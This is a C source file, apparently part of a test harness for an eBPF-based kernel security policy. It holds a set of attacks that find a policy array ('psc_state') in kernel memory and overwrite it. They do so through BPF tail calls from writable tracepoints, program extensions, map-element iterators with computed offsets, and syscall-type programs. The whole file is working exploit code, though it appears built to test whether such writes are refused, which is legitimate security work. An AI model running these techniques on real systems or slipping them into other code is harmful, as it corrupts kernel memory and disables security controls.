/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * Programs that write the kernel's memory. How far a program writes behind what it is given is
 * compared with what is there when it is attached or run; here it is called in the place of one
 * that was, by a tail call or as an extension. What is written is the policy.
 */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"
#include "overwrite.skel.h"
#include "util.h"

#define TRACEPOINT "page_fault_user"
#define REACH ((1 << 29) - 64)	/* of an offset that the verifier takes */

static struct overwrite_bpf *skel;
static int caller_fd = -1, map_fd = -1;
static __u64 policy, mine;	/* where the policy is in memory, and the map's value; or 0 */

/* Only this one of the skeleton's programs is wanted. */
static int open_for(const char *name)
{
	struct bpf_program *prog;

	libbpf_set_print(NULL);
	skel = overwrite_bpf__open();
	if (!skel)
		return failed("open");
	bpf_object__for_each_program(prog, skel->obj)
		bpf_program__set_autoload(prog, strcmp(bpf_program__name(prog), name) == 0);
	return 0;
}

/* Where the value of an array is in memory; 0 for unknown. */
static __u64 value_of(const char *name)
{
	struct { char name[16]; __u64 value; } one;
	__u64 found = 0;
	int link, fd;

	if (open_for("where") || overwrite_bpf__load(skel))
		return 0;
	link = bpf_link_create(bpf_program__fd(skel->progs.where), 0, BPF_TRACE_ITER, NULL);
	fd = bpf_iter_create(link);
	while (read(fd, &one, sizeof(one)) == (ssize_t)sizeof(one))
		if (strstr(one.name, name))
			found = one.value;
	close(fd);
	close(link);
	overwrite_bpf__destroy(skel);
	return found;
}

static int find_policy(void)
{
	policy = value_of("psc_state");
	errno = ENOENT;
	return policy ? 0 : failed("psc_state");
}

/* A process faults there. */
static int fault_at(__u64 address)
{
	pid_t pid = fork();

	if (pid == 0) {
		*(volatile char *)address = 1;
		_exit(0);
	}
	return waitpid(pid, NULL, 0) == pid ? 0 : failed("fork");
}

/* @writer, and a caller of it of the same kind. Return: the descriptor of @writer, or -errno. */
static int load_pair(enum bpf_prog_type type, const struct bpf_insn *writer, size_t n,
		     struct bpf_prog_load_opts *opts)
{
	int array = bpf_map_create(BPF_MAP_TYPE_PROG_ARRAY, "writers", 4, 4, 1, NULL);
	const struct bpf_insn caller[] = {
		MAP_FD(BPF_REG_2, array), MOV_IMM(BPF_REG_3, 0), CALL(BPF_FUNC_tail_call),
		MOV_IMM(BPF_REG_0, 0), EXIT(),
	};
	__u32 zero = 0;
	int fd;

	if (array < 0)
		return failed("array");
	fd = bpf_prog_load(type, "writer", "GPL", writer, n, opts);
	if (fd < 0)
		return failed("load");
	caller_fd = bpf_prog_load(type, "caller", "GPL", caller, ARRAY_SIZE(caller), opts);
	if (caller_fd < 0)
		return failed("load");
	return bpf_map_update_elem(array, &zero, &fd, BPF_ANY) ? failed("update") : fd;
}

/* --- on a writable tracepoint, by a tail call --- */

static int prepare_tracepoint(char **args)
{
	int err = find_policy(), fd;

	(void)args;
	if (err)
		return err;
	const struct bpf_insn writer[] = {
		LOAD(BPF_REG_6, BPF_REG_1, 0),
		INSN(BPF_LD | BPF_DW | BPF_IMM, BPF_REG_7, 0, 0, (__s32)policy),
		INSN(0, 0, 0, 0, (__s32)(policy >> 32)),
		INSN(BPF_JMP | BPF_JNE | BPF_X, BPF_REG_6, BPF_REG_7, 1, 0),
		STORE_IMM(BPF_REG_6, 0, 0),
		MOV_IMM(BPF_REG_0, 0), EXIT(),
	};
	LIBBPF_OPTS(bpf_prog_load_opts, opts);

	fd = load_pair(BPF_PROG_TYPE_RAW_TRACEPOINT_WRITABLE, writer, ARRAY_SIZE(writer), &opts);
	return fd < 0 ? fd : 0;
}

static int run_tracepoint(char **args)
{
	(void)args;
	if (bpf_raw_tracepoint_open(TRACEPOINT, caller_fd) < 0)
		return failed("attach");
	return fault_at(policy);
}

/* --- the same as an extension --- */

/* An extension, by its name, of one that is attached or run. */
static int extend(const char *target, const char *extension)
{
	struct overwrite_bpf *first;
	int err = open_for(target);

	if (err)
		return err;
	if (overwrite_bpf__load(skel))
		return failed("load");
	first = skel;
	err = open_for(extension);
	if (err)
		return err;
	skel->rodata->address = policy;
	if (bpf_program__set_attach_target(bpf_object__find_program_by_name(skel->obj, extension),
			bpf_program__fd(bpf_object__find_program_by_name(first->obj, target)), target))
		return failed("target");
	if (overwrite_bpf__load(skel))
		return failed("load");
	if (!bpf_program__attach(bpf_object__find_program_by_name(skel->obj, extension)))
		return failed("attach");
	if (strcmp(target, "on_fault"))
		return 0;
	return bpf_program__attach(first->progs.on_fault) ? 0 : failed("attach");
}

static int run_extension(char **args)
{
	int err = find_policy() ?: extend("on_fault", "on_fault_write");

	(void)args;
	return err ?: fault_at(policy);
}

/* What it would write is not worth the rest: this is enough to be refused, or not. */
static int run_syscall_extension(char **args)
{
	(void)args;
	return extend("called", "called_write");
}

/* --- an iterator over the elements of a map, by a tail call --- */

/* A map of one's own, if there is luck one from which the policy can be reached. */
static void find_map(void)
{
	char name[16];

	for (int i = 0; i < 20 && !mine; i++) {
		snprintf(name, sizeof(name), "mine%d", i);
		map_fd = bpf_map_create(BPF_MAP_TYPE_ARRAY, name, 4, i % 2 ? 3000 : 64, 1, NULL);
		mine = value_of(name);
		if (mine >= policy || policy - mine >= REACH)
			mine = 0;
	}
}

static int prepare_iterator(char **args)
{
	int btf_id = libbpf_find_vmlinux_btf_id("bpf_map_elem", BPF_TRACE_ITER), err, fd;
	LIBBPF_OPTS(bpf_prog_load_opts, opts, .expected_attach_type = BPF_TRACE_ITER,
		    .attach_btf_id = (__u32)btf_id);

	(void)args;
	err = find_policy();
	if (err)
		return err;
	find_map();
	const struct bpf_insn writer[] = {
		LOAD(BPF_REG_6, BPF_REG_1, 24),
		JUMP_EQ(BPF_REG_6, 0, 2),
		ADD_IMM(BPF_REG_6, mine ? (__s32)(policy - mine) : 4096),
		STORE_IMM(BPF_REG_6, 0, 0),
		MOV_IMM(BPF_REG_0, 0), EXIT(),
	};

	fd = load_pair(BPF_PROG_TYPE_TRACING, writer, ARRAY_SIZE(writer), &opts);
	return fd < 0 ? fd : 0;
}

static int run_iterator(char **args)
{
	union bpf_iter_link_info info = { .map.map_fd = (__u32)map_fd };
	LIBBPF_OPTS(bpf_link_create_opts, opts, .iter_info = &info, .iter_info_len = sizeof(info));
	int link = bpf_link_create(caller_fd, 0, BPF_TRACE_ITER, &opts), fd;
	char rest[64];

	(void)args;
	if (!mine) {
		errno = ERANGE;
		return failed("map");
	}
	if (link < 0)
		return failed("attach");
	fd = bpf_iter_create(link);
	if (fd < 0)
		return failed("iterator");
	while (read(fd, rest, sizeof(rest)) > 0)
		;
	close(fd);
	close(link);
	return 0;
}

/* --- a program of the type syscall, by a tail call, which older kernels refuse themselves --- */

static int run_syscall(char **args)
{
	const struct bpf_insn writer[] = {
		LOAD(BPF_REG_2, BPF_REG_1, 8192), MOV_IMM(BPF_REG_0, 0), EXIT(),
	};
	LIBBPF_OPTS(bpf_prog_load_opts, opts, .prog_flags = BPF_F_SLEEPABLE);
	int fd = load_pair(BPF_PROG_TYPE_SYSCALL, writer, ARRAY_SIZE(writer), &opts);

	(void)args;
	return fd < 0 ? fd : 0;
}

const struct attack attacks_on_memory[] = {
	{ "write-tracepoint", prepare_tracepoint, run_tracepoint },
	{ "write-extension", NULL, run_extension },
	{ "write-iterator", prepare_iterator, run_iterator },
	{ "write-syscall", NULL, run_syscall },
	{ "write-syscall-extension", NULL, run_syscall_extension },
	{}
};
